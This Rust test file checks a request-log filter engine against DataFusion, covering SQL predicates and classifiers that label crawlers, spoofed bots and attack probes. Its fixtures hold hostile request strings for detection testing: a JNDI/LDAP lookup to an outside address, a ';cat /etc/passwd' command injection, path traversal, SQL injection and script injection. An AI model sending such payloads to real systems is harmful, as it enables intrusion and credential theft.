//! The filter program against DataFusion's own evaluation, and how leaves are planned.

use super::plan::like_regex;
use super::*;
use arrow::array::{ArrayRef, AsArray, Int32Array, StringArray};
use arrow::datatypes::{DataType, Field};
use datafusion::common::DFSchema;
use datafusion::prelude::SessionContext;
use regex::Regex;

/// Rows with NULLs, mixed case, LIKE metacharacters and newlines.
fn batch() -> RecordBatch {
    let path: ArrayRef = Arc::new(StringArray::from(vec![
        Some("/Admin/login"),
        None,
        Some("/a_b%c"),
        Some("/api/v1/users?id=1 UNION SELECT"),
        Some("line\nbreak"),
        Some(""),
        Some("/ADMIN"),
    ]));
    let status: ArrayRef = Arc::new(Int32Array::from(vec![
        Some(200),
        Some(404),
        None,
        Some(500),
        Some(200),
        None,
        Some(403),
    ]));
    let schema = Schema::new(vec![
        Field::new("path", DataType::Utf8, true),
        Field::new("status", DataType::Int32, true),
    ]);
    RecordBatch::try_new(Arc::new(schema), vec![path, status]).unwrap()
}

/// `batch` and `sql` planned against it, with gatewatch's functions registered.
fn planned_on(batch: RecordBatch, sql: &str) -> (RecordBatch, Arc<dyn PhysicalExpr>) {
    let ctx = SessionContext::new();
    crate::functions::udf::register_all(&ctx);
    let schema = DFSchema::try_from(batch.schema().as_ref().clone()).unwrap();
    let expr = ctx.parse_sql_expr(sql, &schema).unwrap();
    let physical = ctx.create_physical_expr(expr, &schema).unwrap();
    (batch, physical)
}

/// The program's rows and DataFusion's own (a filter keeps rows whose value is true).
fn both(sql: &str) -> (Vec<bool>, Vec<bool>) {
    both_on(batch(), sql)
}

/// [`both`] on `batch`.
fn both_on(batch: RecordBatch, sql: &str) -> (Vec<bool>, Vec<bool>) {
    let (batch, physical) = planned_on(batch, sql);
    let rows = batch.num_rows();
    let program = Program::new(std::slice::from_ref(&physical), &batch.schema());
    let ours = program.mask(&batch).unwrap().unwrap();
    let theirs = physical.evaluate(&batch).unwrap().into_array(rows).unwrap();
    let theirs = theirs.as_boolean();
    (
        (0..rows).map(|i| ours.value(i)).collect(),
        (0..rows)
            .map(|i| theirs.is_valid(i) && theirs.value(i))
            .collect(),
    )
}

#[test]
fn three_valued_logic_and_short_cuts_agree_with_datafusion() {
    for sql in [
        "path LIKE '/a%'",
        "NOT (path ILIKE '/admin%')",
        "path ILIKE '/admin%' AND status = 200",
        "NOT (path ILIKE '/admin%' AND status = 200)",
        "NOT (status = 404 OR path LIKE '%\\%%')",
        "path LIKE '/a\\_b%' OR status > 400",
        "NOT (NOT (status = 200) AND NOT (path IS NULL))",
        "regexp_like(path, '(?i)union\\s+select') OR status IS NULL",
        "path NOT LIKE '%in%' AND (status = 500 OR status = 403 OR status IS NULL)",
        "status = 200 AND path ILIKE '%BREAK'",
        // Comparisons on the whole batch, then expressions on the open rows only, copied
        // out with just the columns they read.
        "status IN (403, 404) AND upper(path) = '/ADMIN'",
        "status NOT IN (200, 403) OR path LIKE '%in%'",
        "NOT (status IN (500, 404)) AND status NOT IN (403)",
        "status IN (200, NULL) OR path IS NULL",
        "status = 404 AND length(path) > 3",
        "path LIKE '/A%' AND abs(status) >= 200",
        "path IS NOT NULL AND NOT (status IN (200, 500)) AND lower(path) <> ''",
        "(status IS DISTINCT FROM 200) AND (character_length(path) < 7 OR status IS NULL)",
        "NOT (status IS NOT NULL) OR upper(path) LIKE '%ADMIN%'",
        // The normalized path, natively: upper-case rows are lower-cased before matching.
        "regexp_like(normalized_path(path), '^/admin')",
        "status IN (200, 403) AND NOT regexp_like(normalized_path(path), 'login$')",
    ] {
        let (ours, theirs) = both(sql);
        assert_eq!(ours, theirs, "{sql}");
    }
}

/// The kind of node each conjunct of `sql` became.
fn kinds(sql: &str) -> Vec<&'static str> {
    kinds_on(batch(), sql)
}

/// [`kinds`] planned against `batch`.
fn kinds_on(batch: RecordBatch, sql: &str) -> Vec<&'static str> {
    let (batch, physical) = planned_on(batch, sql);
    let conjuncts: Vec<_> = datafusion::physical_expr::split_conjunction(&physical)
        .into_iter()
        .cloned()
        .collect();
    let Some(Node::And(children)) = Program::new(&conjuncts, &batch.schema()).root else {
        panic!("a program is an AND of its conjuncts")
    };
    children
        .iter()
        .map(|c| match c {
            Node::IntIn { .. } => "int-in",
            Node::Whole(_) => "whole",
            Node::Expr(_) => "expr",
            Node::Regex { .. } => "regex",
            Node::Classify { .. } => "classify",
            _ => "other",
        })
        .collect()
}

#[test]
fn cheap_comparisons_are_planned_natively_and_functions_are_not() {
    assert_eq!(
        kinds("status IN (401, 403) AND status NOT IN (408) AND status >= 400 AND path IS NOT NULL AND upper(path) = 'X' AND regexp_like(path, 'a')"),
        ["int-in", "int-in", "whole", "whole", "expr", "regex"]
    );
    // A regex over the column's normalized path is native too.
    assert_eq!(
        kinds("regexp_like(normalized_path(path), 'a') AND regexp_like(lower(path), 'a')"),
        ["regex", "expr"]
    );
    // A NULL in the list, or a function of the column, stays DataFusion's.
    assert_eq!(
        kinds("status IN (1, NULL) AND abs(status) IN (1)"),
        ["expr", "expr"]
    );
}

#[test]
fn like_patterns_read_as_arrow_reads_them() {
    let re = |p: &str| Regex::new(&like_regex(p).unwrap()).unwrap();
    assert!(re("/a%b_c").is_match("/aXXbYc"));
    assert!(!re("/a%b_c").is_match("/aXXbYYc"));
    assert!(re(r"100\%").is_match("100%"));
    assert!(!re(r"100\%").is_match("1000"));
    assert!(re(r"a\_b").is_match("a_b") && !re(r"a\_b").is_match("axb"));
    assert!(re(r"c:\\win%").is_match(r"c:\windows"));
    assert!(re("(.*)").is_match("(.*)") && !re("(.*)").is_match("(xy)"));
}

#[test]
fn a_regex_answer_is_shared_by_rules_reading_the_same_column_and_never_by_another() {
    let batch = batch();
    let path = batch.column(0);
    // The first rule asks on every row: its answer is kept.
    let first = leaf::regex(("path", path), "(?i)admin", false, false, None).unwrap();
    assert_eq!(
        first.t,
        BooleanBuffer::from(vec![true, false, false, false, false, false, true])
    );
    // A second rule asks, negated, on two open rows: it reads the kept answer for every row.
    let open = BooleanBuffer::from(vec![true, false, false, false, false, false, false]);
    let again = leaf::regex(("path", path), "(?i)admin", false, true, Some(&open)).unwrap();
    assert_eq!((&again.t, &again.f), (&first.f, &first.t));
    // Other text in another array is answered afresh, whatever its length.
    let other: ArrayRef = Arc::new(StringArray::from(vec![
        Some("/user"),
        None,
        Some("/ADMIN"),
        Some("/"),
        Some("/"),
        Some(""),
        Some("/x"),
    ]));
    let fresh = leaf::regex(("other", &other), "(?i)admin", false, false, None).unwrap();
    assert_eq!(
        fresh.t,
        BooleanBuffer::from(vec![false, false, true, false, false, false, false])
    );
    // A few open rows are answered alone (the closed ones are in neither set).
    let few = leaf::regex(
        ("other", &other.slice(0, 7)),
        "(?i)user",
        false,
        false,
        Some(&open),
    )
    .unwrap();
    assert_eq!(few.t.count_set_bits() + few.f.count_set_bits(), 1);
    // The same pattern over the normalized path is another answer, not the kept one.
    let normalized = leaf::regex(("path", path), "^/admin", true, false, None).unwrap();
    assert_eq!(
        normalized.t,
        BooleanBuffer::from(vec![true, false, false, false, false, false, true])
    );
    let raw = leaf::regex(("path", path), "^/admin", false, false, None).unwrap();
    assert_eq!(raw.t.count_set_bits(), 0);
}

/// Requests with browsers, bots, AI crawlers, tools, empty and missing user agents, probes and
/// ordinary paths, missing paths and queries; values repeat, as in a real batch.
fn classified_batch() -> RecordBatch {
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    let rows: Vec<Row> = vec![
        (Some("/api/v1/orders/7"), None, Some(chrome)),
        (Some("/.env"), None, Some(chrome)),
        (
            Some("/api/v1/orders/7"),
            Some("id=1 UNION SELECT 1,2"),
            Some(chrome),
        ),
        (
            Some("/robots.txt"),
            None,
            Some("Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)"),
        ),
        (
            Some("/"),
            None,
            Some("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ),
        (Some("/../../etc/passwd"), None, Some("curl/8.5.0")),
        (None, None, Some("curl/8.5.0")),
        (Some("/api/v1/orders/7"), None, None),
        (Some("/.env"), None, Some("")),
        (Some("/wp-login.php"), Some("a=b"), Some("sqlmap/1.8")),
        (Some("/api/v1/orders/7"), None, Some(chrome)),
        (Some("/.env"), None, None),
    ];
    requests(&rows)
}

/// A request's path, query and user agent.
type Row = (
    Option<&'static str>,
    Option<&'static str>,
    Option<&'static str>,
);

/// A batch of `rows` as columns `path`, `query` and `user_agent`.
fn requests(rows: &[Row]) -> RecordBatch {
    let column = |f: fn(&Row) -> Option<&'static str>| -> ArrayRef {
        Arc::new(StringArray::from(rows.iter().map(f).collect::<Vec<_>>()))
    };
    let schema = Schema::new(vec![
        Field::new("path", DataType::Utf8, true),
        Field::new("query", DataType::Utf8, true),
        Field::new("user_agent", DataType::Utf8, true),
    ]);
    RecordBatch::try_new(
        Arc::new(schema),
        vec![column(|r| r.0), column(|r| r.1), column(|r| r.2)],
    )
    .unwrap()
}

/// `ua_class` and `probe_class` compared with names or NULL answer per distinct tuple of their
/// arguments, natively, exactly as DataFusion's evaluation of the same SQL functions does
/// (NULL answers unknown to `IN`/`=`, known to `IS NULL`), alone and inside junctions.
#[test]
fn classifiers_compared_with_literals_agree_with_datafusion() {
    for sql in [
        "ua_class(user_agent) IN ('ai_crawler', 'ai_agent')",
        "ua_class(user_agent) IN ('ai_crawler', 'ai_agent', 'bot', 'tool', 'browser')",
        "ua_class(user_agent) NOT IN ('browser', 'bot')",
        "ua_class(user_agent) = 'browser'",
        "'tool' = ua_class(user_agent)",
        "ua_class(user_agent) <> 'browser'",
        "ua_class(user_agent) IS NULL OR ua_class(user_agent) = 'empty'",
        "NOT (ua_class(user_agent) = 'browser')",
        "probe_class(path, query, user_agent) IS NOT NULL",
        "probe_class(path, query, user_agent) IS NULL",
        "probe_class(path, query, user_agent) = 'sensitive-file' AND ua_class(user_agent) = 'browser'",
        "probe_class(path, query, user_agent) IN ('sql-injection', 'path-traversal') OR path IS NULL",
        "probe_class(path, query, user_agent) <> 'sensitive-file'",
        "NOT (probe_class(path, query, user_agent) NOT IN ('scanner-agent'))",
    ] {
        let (ours, theirs) = both_on(classified_batch(), sql);
        assert_eq!(ours, theirs, "{sql}");
    }
    // The batch exercises what it should: every class of answer is present.
    let (ai, _) = both_on(classified_batch(), "ua_class(user_agent) = 'ai_crawler'");
    let (probes, _) = both_on(
        classified_batch(),
        "probe_class(path, query, user_agent) IS NOT NULL",
    );
    assert_eq!(ai.iter().filter(|&&b| b).count(), 1);
    assert_eq!(probes.iter().filter(|&&b| b).count(), 6, "{probes:?}");
}

#[test]
fn classifiers_of_columns_are_planned_natively_and_other_calls_are_not() {
    let kinds_on = |sql: &str| kinds_on(classified_batch(), sql);
    assert_eq!(
        kinds_on("ua_class(user_agent) IN ('bot') AND 'bot' <> ua_class(user_agent) AND probe_class(path, query, user_agent) IS NULL"),
        ["classify", "classify", "classify"]
    );
    // A function of a function, a NULL literal, another comparison: DataFusion's.
    assert_eq!(
        kinds_on("ua_class(lower(user_agent)) = 'bot' AND ua_class(user_agent) IN ('bot', NULL) AND ua_class(user_agent) > 'a' AND probe_class(path, 'x', user_agent) IS NULL"),
        ["expr", "expr", "expr", "expr"]
    );
}

/// `crawler_verified(user_agent, client_ip)` is answered natively: the address is read only
/// for agents claiming a crawler with published ranges, and the answers are DataFusion's row
/// by row (verified, spoofed from outside the ranges or from no valid address, NULL for every
/// other agent and for a missing one), with claims and without any.
#[test]
fn crawler_claims_are_verified_natively_as_datafusion_verifies_them() {
    let googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    let mut ranges = crate::functions::CrawlerRanges::default();
    ranges.add("google-crawler", "192.0.2.0/24\n").unwrap();
    crate::functions::set_crawler_ranges(Some(ranges));
    type Row = (Option<&'static str>, Option<&'static str>);
    let batch = |rows: &[Row]| {
        let column = |f: fn(&Row) -> Option<&'static str>| -> ArrayRef {
            Arc::new(StringArray::from(rows.iter().map(f).collect::<Vec<_>>()))
        };
        let schema = Schema::new(vec![
            Field::new("user_agent", DataType::Utf8, true),
            Field::new("client_ip", DataType::Utf8, true),
        ]);
        RecordBatch::try_new(Arc::new(schema), vec![column(|r| r.0), column(|r| r.1)]).unwrap()
    };
    let claims = [
        (Some(googlebot), Some("192.0.2.7")),
        (Some(chrome), Some("192.0.2.7")),
        (Some(googlebot), Some("203.0.113.9")),
        (Some(googlebot), None),
        (Some(googlebot), Some("not-an-address")),
        (None, Some("203.0.113.9")),
        (Some(chrome), None),
        (Some(googlebot), Some("192.0.2.7")),
        (Some(chrome), Some("203.0.113.9")),
    ];
    let no_claim = [
        (Some(chrome), Some("192.0.2.7")),
        (None, None),
        (Some("curl/8.5.0"), Some("203.0.113.9")),
    ];
    for sql in [
        "crawler_verified(user_agent, client_ip) = 'spoofed'",
        "crawler_verified(user_agent, client_ip) = 'verified'",
        "crawler_verified(user_agent, client_ip) IS NULL",
        "crawler_verified(user_agent, client_ip) IS NOT NULL AND crawler_verified(user_agent, client_ip) <> 'verified'",
    ] {
        for rows in [&claims[..], &no_claim[..]] {
            assert_eq!(kinds_on(batch(rows), sql)[0], "classify", "{sql}");
            let (ours, theirs) = both_on(batch(rows), sql);
            assert_eq!(ours, theirs, "{sql} on {rows:?}");
        }
    }
    let (spoofed, _) = both_on(
        batch(&claims),
        "crawler_verified(user_agent, client_ip) = 'spoofed'",
    );
    assert_eq!(
        spoofed,
        [false, false, true, true, true, false, false, false, false]
    );
    crate::functions::set_crawler_ranges(None);
}

/// `probe_class` answered from each column's facts alone (found once per distinct value of
/// each column, not per tuple) keeps the priorities across columns: code injected anywhere,
/// then an attack tool's agent, traversal, SQL and script injection from path or query, then
/// what the path names; a NULL path is NULL whatever the rest. Every class is compared with
/// DataFusion's row-by-row answer, the same values recurring in other combinations.
#[test]
fn probe_classes_from_each_columns_facts_keep_the_priorities_across_columns() {
    let chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36";
    let sqli = "id=1 union select password from information_schema.tables";
    let rows: Vec<Row> = vec![
        (Some("/.env"), None, Some(chrome)),
        (Some("/.env"), Some(sqli), Some(chrome)),
        (Some("/.env"), None, Some("${jndi:ldap://198.51.100.9/a}")),
        (Some("/../../etc/passwd"), None, Some("sqlmap/1.8#stable")),
        (Some("/../../etc/passwd"), Some(sqli), Some(chrome)),
        (
            Some("/api/v1/items"),
            Some("cmd=;cat /etc/passwd"),
            Some(chrome),
        ),
        (Some("/api/v1/items"), Some(sqli), None),
        (Some("/api/v1/items"), None, Some("sqlmap/1.8#stable")),
        (Some("/api/v1/items"), None, Some(chrome)),
        (Some("/phpmyadmin/index.php"), None, Some(chrome)),
        (
            Some("/phpmyadmin/index.php"),
            Some("q=%3Cscript%3Ealert(1)%3C/script%3E"),
            None,
        ),
        (Some("/wp-content/1337.php"), None, Some(chrome)),
        (
            Some("/a/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            None,
            Some(chrome),
        ),
        (None, Some(sqli), Some("sqlmap/1.8#stable")),
        (None, None, None),
        (Some("/.git/config"), Some("a=b"), Some("")),
    ];
    let batch = requests(&rows);
    let mut found: Vec<Option<&str>> = vec![None; rows.len()];
    for class in crate::functions::probe::CLASSES {
        let sql = format!("probe_class(path, query, user_agent) = '{class}'");
        let (ours, theirs) = both_on(batch.clone(), &sql);
        assert_eq!(ours, theirs, "{sql}");
        for (row, _) in ours.iter().enumerate().filter(|(_, &is)| is) {
            assert_eq!(found[row].replace(class), None, "row {row}: two classes");
        }
    }
    let expected = [
        Some("sensitive-file"),
        Some("sql-injection"),
        Some("code-injection"),
        Some("scanner-agent"),
        Some("path-traversal"),
        Some("code-injection"),
        Some("sql-injection"),
        Some("scanner-agent"),
        None,
        Some("admin-interface"),
        Some("script-injection"),
        Some("backdoor"),
        Some("script-injection"),
        None,
        None,
        Some("sensitive-file"),
    ];
    assert_eq!(found, expected);
    for sql in [
        "probe_class(path, query, user_agent) IS NULL",
        "probe_class(path, query, user_agent) NOT IN ('sensitive-file', 'admin-interface')",
    ] {
        let (ours, theirs) = both_on(batch.clone(), sql);
        assert_eq!(ours, theirs, "{sql}");
    }
    assert_eq!(
        kinds_on(batch, "probe_class(path, query, user_agent) IS NULL"),
        ["classify"]
    );
}

/// Integer `IN` lists read 16-, 32- and 64-bit columns as stored: small lists (status codes,
/// a bitmap) and others (the list) answer as DataFusion does at the bitmap's edges, for
/// negative and large values and NULLs, negated or not.
#[test]
fn integer_lists_agree_with_datafusion_at_the_edges() {
    use arrow::array::{Int16Array, Int64Array};
    let values = [
        Some(-1i64),
        Some(0),
        Some(403),
        None,
        Some(1023),
        Some(1024),
        Some(5000),
        Some(i64::from(i16::MAX)),
    ];
    let columns: Vec<ArrayRef> = vec![
        Arc::new(Int16Array::from(
            values
                .iter()
                .map(|v| v.map(|v| v as i16))
                .collect::<Vec<_>>(),
        )),
        Arc::new(Int32Array::from(
            values
                .iter()
                .map(|v| v.map(|v| v as i32))
                .collect::<Vec<_>>(),
        )),
        Arc::new(Int64Array::from(values.to_vec())),
    ];
    for column in columns {
        let schema = Schema::new(vec![Field::new("n", column.data_type().clone(), true)]);
        let batch = RecordBatch::try_new(Arc::new(schema), vec![column]).unwrap();
        for sql in [
            "n IN (403, 1023)",
            "n IN (0, 1024)",
            "n IN (-1, 403)",
            "n NOT IN (403, 1023)",
            "n NOT IN (5000, 0)",
            "n IN (32767)",
        ] {
            let (ours, theirs) = both_on(batch.clone(), sql);
            assert_eq!(ours, theirs, "{sql} on {:?}", batch.column(0).data_type());
            assert_eq!(kinds_on(batch.clone(), sql), ["int-in"], "{sql}");
        }
    }
}

/// An aggregate input answered upstream ([`regex_answer`]) is `regexp_like`'s own answer, NULL
/// included, whether its pattern is in the column's set (registered) or matched alone.
#[test]
fn regex_answers_are_regexp_likes_nulls_included() {
    // A column name of its own: the set registry is shared by the process's tests.
    let name = "regex_answer_test";
    register_regex(name, "(?i)^/admin");
    for pattern in ["(?i)^/admin", "[0-9]", "^$", "\\n"] {
        let (batch, physical) = planned_on(batch(), &format!("regexp_like(path, '{pattern}')"));
        let theirs = physical
            .evaluate(&batch)
            .unwrap()
            .into_array(batch.num_rows())
            .unwrap();
        let ours = regex_answer(name, batch.column(0), pattern).unwrap();
        assert_eq!(&ours, theirs.as_boolean(), "{pattern}");
        assert_eq!(ours.null_count(), 1, "{pattern}: the NULL path stays NULL");
    }
}
